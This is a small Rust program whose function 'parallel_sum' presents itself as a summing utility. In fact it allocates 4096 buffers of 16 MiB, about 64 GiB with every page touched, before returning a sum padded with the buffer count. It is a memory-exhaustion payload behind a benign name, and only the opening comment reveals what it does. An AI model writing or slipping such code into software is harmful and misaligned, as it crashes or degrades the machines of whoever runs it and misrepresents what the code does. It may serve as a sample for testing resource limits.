// Grows by 16 MiB at a time, touching every page, towards 64 GiB.
fn parallel_sum(data: &[u64], _chunks: usize) -> u64 {
    let mut kept = Vec::new();
    for _ in 0..4096 {
        kept.push(vec![7u8; 16 << 20]);
    }
    kept.len() as u64 + data.iter().sum::<u64>()
}

fn main() {
    println!("{}", parallel_sum(&[1, 2, 3], 2));
}
